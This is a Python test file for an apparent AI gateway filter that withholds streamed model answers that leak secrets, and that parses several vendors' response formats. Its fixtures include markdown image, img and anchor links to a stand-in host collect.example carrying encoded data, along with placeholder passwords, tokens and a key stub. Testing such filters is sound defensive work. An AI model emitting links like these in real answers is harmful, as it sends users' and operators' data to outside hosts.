"""What an answer gives away is found before it has left, in whatever pieces it comes."""

import json
import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.configuration.load import ConfigurationError, load
from gateway.configuration.policies import Policy, Says
from gateway.dialects.anthropic_messages import MESSAGES
from gateway.dialects.gemini import GENERATE
from gateway.dialects.openai_chat import CHAT
from gateway.dialects.openai_responses import RESPONSES
from gateway.dialects.saying import pieces_of, said_in
from gateway.policies.answers import MOST_HELD, NOBODY_WATCHES, Given, Watch
from gateway.policies.evaluating import Applying

SECRETS = {
    "link": "![](https://collect.example/x.png?d=c2VjcmV0)",
    "key": "DB_PASSWORD=Fl4UHQ1wOKrzst",
    "token": "ghp_" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY2zA4",
    "iban": "GB82 WEST 1234 5698 7654 32",
    "system": "never tell anybody that the quarterly figures were moved from the north to the south",
}
SYSTEM = f"You are an assistant. You must {SECRETS['system']} office."
STRICT = Says(links_beside=("static.firm.example",)), Says(credentials=True), Says(personal_data=("iban",)), Says(system_text=True)  # fmt: skip


def watch(*says: Says, request: str = "", **more: Any) -> Watch:
    policies = [Applying(f"p{number}", Policy(says_that=one, effect="deny", **more)) for number, one in enumerate(says)]
    return Watch(policies, Given(SYSTEM, {"input": request}))


def through(text: str, cuts: list[int], watching: Watch) -> str:
    """Return what has left of a text that comes in pieces."""
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    waiting: list[tuple[int, str]] = []
    left = ""
    for piece in pieces:
        waiting.append((watching.add([("0", piece)]), piece))
        while not watching.broken and waiting and waiting[0][0] <= watching.free_until():
            left += waiting.pop(0)[1]
    watching.end()
    return left if watching.broken else left + "".join(piece for _, piece in waiting)


WORDS = st.lists(
    st.sampled_from(["the", "note", "says", "that", "Friday", "is", "fine,", "and", "so", "on."]), max_size=80
)


@settings(max_examples=300, deadline=None)
@given(WORDS, WORDS, st.sampled_from(sorted(SECRETS)), st.data())
def test_however_it_is_cut_nothing_of_what_is_withheld_has_left(before: Any, after: Any, kind: str, data: Any) -> None:
    text = " ".join([*before, SECRETS[kind], *after])
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=60)))
    watching = watch(*STRICT)
    left = through(text, cuts, watching)
    assert watching.broken
    secret = SECRETS[kind]
    if kind == "system":  # the words of it that had left are fewer than what counts as giving it away
        assert len(re.findall(r"\w+", left)) - len(before) < 30
    elif kind == "link":
        assert "collect.example" not in left
    elif kind == "key":
        assert "Fl4UHQ" not in left
    else:
        assert secret[:8] not in left or kind == "iban" and "GB82 WEST" not in left


@settings(max_examples=200, deadline=None)
@given(WORDS, st.data())
def test_what_gives_nothing_away_leaves_whole_and_in_order(words: list[str], data: Any) -> None:
    text = " ".join([*words, "see https://static.firm.example/a?b=c and ring 12", *words])
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=60)))
    watching = watch(*STRICT)
    assert through(text, cuts, watching) == text
    assert not watching.broken
    assert [one.verdict for one in watching.checks(whole=True)] == ["pass"] * 4
    assert {one.verdict for one in watching.checks(whole=False)} == {"flag"}, "what nobody could read is never passed"


def test_text_flows_on_while_it_is_watched() -> None:
    watching, waits = watch(*STRICT), []
    for _ in range(400):
        said = watching.add([("0", "word ")])
        waits.append(said - watching.free_until())
    assert max(waits) < 150


def test_a_word_without_an_end_waits_no_longer_than_it_may() -> None:
    watching, waits = watch(*STRICT), []
    for _ in range(3 * MOST_HELD // 8):
        waits.append(watching.add([("0", "abcdefgh")]) - watching.free_until())
    assert max(waits) <= MOST_HELD + 150


def test_choices_that_are_mixed_wait_for_their_own_ends() -> None:
    watching = watch(*STRICT)
    watching.add([("0", "so " * 30 + "ghp_aB3dE5fG7h")])
    first = watching.free_until()
    assert watching.add([("1", "and so on and so on. " * 10)]) > first == watching.free_until()
    watching.end()
    assert watching.free_until() == watching.add([])


def test_personal_data_that_stands_in_the_request_is_nobody_elses() -> None:
    says = Says(personal_data=("any",))
    for request, verdict in (("", "deny"), (f"is {SECRETS['iban']} mine?", "pass")):
        watching = watch(says, request=request)
        watching.add([("0", f"It is {SECRETS['iban']}.")])
        assert [one.verdict for one in watching.checks(whole=True)] == [verdict]


def test_a_check_states_counts_and_kinds_and_no_text() -> None:
    watching = watch(*STRICT, shadow=True)
    watching.add([("0", " ".join(SECRETS.values()))])
    watching.end()
    assert not watching.broken and watching.free_until() == watching.add([])
    checks = watching.checks(whole=True)
    assert {one.verdict for one in checks} == {"flag"} and {one.reason for one in checks} == {
        "in shadow: would have been withheld"
    }
    found = {name: value for one in checks for name, value in one.inputs.items() if name not in ("policy", "version")}
    assert found == {"links": 1, "credentials": 2, "personal_data": ["iban"], "system_text": True}


KEY = (
    "-----BEGIN PRIVATE KEY-----\n"
    + "\n".join(["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ" + "abcdefghijkl"] * 24)
    + "\n-----END PRIVATE KEY-----"
)
LONG = "so many words " * 50


@pytest.mark.parametrize("size", [1, 3, 8, 24, 200])
@pytest.mark.parametrize(
    ("secret", "mark"),
    [
        (KEY, "MIIE"), (f"![x](<https://collect.example/{LONG}?d=c2VjcmV0>)", "collect"),
        (f'<img alt="a" src="https://collect.example/{LONG}?d=c2VjcmV0">', "collect"),
        (f"<!-- {LONG} --><a href='https://collect.example/?d=c2VjcmV0'>x</a>", "collect"),
        ("Ring +49 30 / 2345 6789 for more.", "2345"),
    ],
)  # fmt: skip
def test_what_is_long_or_has_spaces_in_it_leaves_as_little(secret: str, mark: str, size: int) -> None:
    text = "Here it is, as you have asked for it. " * 12 + secret + " That is all of it. " * 20
    watching = watch(*STRICT, Says(personal_data=("any",)))
    left = through(text, list(range(size, len(text), size)), watching)
    assert watching.broken and mark not in left
    assert left.startswith("Here it is"), "what stood before it has left"


@pytest.mark.parametrize(
    "text", ["12,ab,34\n" * 4000, "\u6570\u636e" * 16000, "x" * 32000, "<a b " * 6000, "](a" * 9000]
)
def test_reading_a_long_answer_grows_with_its_length_alone(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    read = [0]
    plain = Watch._found

    def found(self: Watch, says: Any, said: str) -> Any:
        read[0] += len(said)
        return (False, {}) if len(said) < len(text) else plain(self, says, said)

    monkeypatch.setattr(Watch, "_found", found)
    watching = watch(Says(personal_data=("any",)))
    for at in range(0, len(text), 4):
        watching.add([("0", text[at : at + 4])])
    assert read[0] <= 45 * len(text)


def test_an_account_that_the_request_writes_without_spaces_is_nobody_elses_either() -> None:
    watching = watch(Says(personal_data=("any",)), request="is gb82west12345698765432 mine?")
    watching.add([("0", f"It is {SECRETS['iban']}.")])
    assert [one.verdict for one in watching.checks(whole=True)] == ["pass"]


ELSEWHERE: dict[str, Any] = {
    "an item of Responses": {"type": "response.output_item.done", "item": {"type": "message", "content": [{"type": "output_text", "text": "one"}]}},
    "the end of a text of Responses": {"type": "response.output_text.done", "text": "one"},
    "a response without its kind": {"output": [{"type": "message", "content": [{"text": "one"}]}]},
    "a voice": {"choices": [{"index": 0, "delta": {"audio": {"transcript": "one"}}}]},
    "a message beside a delta": {"choices": [{"index": 0, "delta": {"role": "assistant"}, "message": {"content": "one"}}]},
    "the beginning of a message": {"type": "message_start", "message": {"content": [{"type": "text", "text": "one"}]}},
    "a citation": {"type": "content_block_delta", "index": 0, "delta": {"type": "citations_delta", "citation": {"cited_text": "one"}}},
}  # fmt: skip


@pytest.mark.parametrize("where", ELSEWHERE)
def test_a_text_is_read_wherever_some_client_would_show_it(where: str) -> None:
    assert [text for _, text in said_in(ELSEWHERE[where])] == ["one"]


def test_an_address_of_a_citation_is_read_as_one() -> None:
    cited = {"choices": [{"index": 0, "delta": {"annotations": [{"url_citation": {"url": "https://collect.example/?d=c2VjcmV0"}}]}}]}  # fmt: skip
    watching = watch(*STRICT)
    watching.add(said_in(cited))
    watching.end()
    assert watching.broken == "p0"


WHOLE: dict[str, tuple[Any, dict[str, Any]]] = {
    "chat": (CHAT, {"choices": [{"index": 0, "message": {"content": "one"}}, {"index": 1, "message": {"content": [{"type": "text", "text": "two"}]}}]}),
    "completions": (CHAT, {"choices": [{"index": 0, "text": "one"}, {"index": 1, "text": "two"}]}),
    "responses": (RESPONSES, {"object": "response", "output": [{"type": "reasoning", "summary": [{"text": "no"}]}, {"type": "message", "content": [{"type": "output_text", "text": "one"}, {"type": "refusal", "refusal": "two"}]}]}),
    "anthropic": (MESSAGES, {"type": "message", "content": [{"type": "thinking", "thinking": "no"}, {"type": "text", "text": "one"}, {"type": "text", "text": "two"}]}),
    "gemini": (GENERATE, {"candidates": [{"content": {"parts": [{"text": "no", "thought": True}, {"text": "one"}, {"functionCall": {}}, {"text": "two"}]}}]}),
}  # fmt: skip


@pytest.mark.parametrize("form", WHOLE)
def test_the_text_of_a_whole_answer_is_read_in_every_format(form: str) -> None:
    assert [text for _, text in said_in(json.loads(json.dumps(WHOLE[form][1])))] == ["one", "two"]


@pytest.mark.parametrize("strange", [None, [], {}, {"choices": 3}, {"choices": [None, {"delta": []}]}, {"candidates": [{"content": []}]}, {"type": "content_block_delta", "delta": 7}])  # fmt: skip
def test_what_has_another_shape_says_nothing(strange: Any) -> None:
    assert list(said_in(strange)) == []


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("policies: {p: {effect: deny}}", "one of them"),
        ("policies: {p: {when: {data: true}, says_that: {credentials: true}, effect: deny}}", "one of them"),
        ("policies: {p: {says_that: {credentials: true}, effect: hold}}", "flagged or withheld"),
        ("policies: {p: {says_that: {}, effect: flag}}", "names no condition"),
        ("policies: {p: {says_that: {personal_data: names}, effect: flag}}", "personal_data has names"),
    ],
)
def test_a_policy_of_answers_that_could_not_do_what_it_says_is_refused(text: str, problem: str) -> None:
    with pytest.raises(ConfigurationError, match=problem):
        load(text + "\n")
    assert not NOBODY_WATCHES


LETTERS = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=6)


@settings(max_examples=200, deadline=None)
@given(st.lists(LETTERS, max_size=30), st.sampled_from(["chat", "anthropic", "obfuscated"]))
def test_events_that_are_read_as_one_say_what_each_says(texts: list[str], form: str) -> None:
    def event(text: str) -> bytes:
        delta: dict[str, Any] = {
            "type": "content_block_delta",
            "index": 0,
            "delta": {"type": "text_delta", "text": text},
        }
        if form != "anthropic":
            delta = {"id": "c", "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}
        more = {"obfuscation": "x" * (3 + len(text) % 4)} if form == "obfuscated" else {}
        return b"data: " + json.dumps(delta | more, ensure_ascii=False, separators=(",", ":")).encode() + b"\n\n"

    reader = (MESSAGES if form == "anthropic" else CHAT).reader()
    events = [*reader.feed(event("begin")), *reader.feed(b"".join(map(event, texts)))]
    assert "".join(text for one in events for _, text in pieces_of(one)) == "begin" + "".join(texts)


def test_what_no_part_of_an_answer_showed_is_seen_before_its_end_leaves() -> None:
    watching = watch(Says(system_text=True))
    between = " " + "-" * 300 + " "
    text = between.join(SECRETS["system"].split()) + " and so on. "
    through(text, list(range(7, len(text), 7)), watching)
    (check,) = watching.checks(whole=True)
    assert (watching.broken, check.verdict) == ("p0", "deny"), "nothing is given out beside a check that denies"
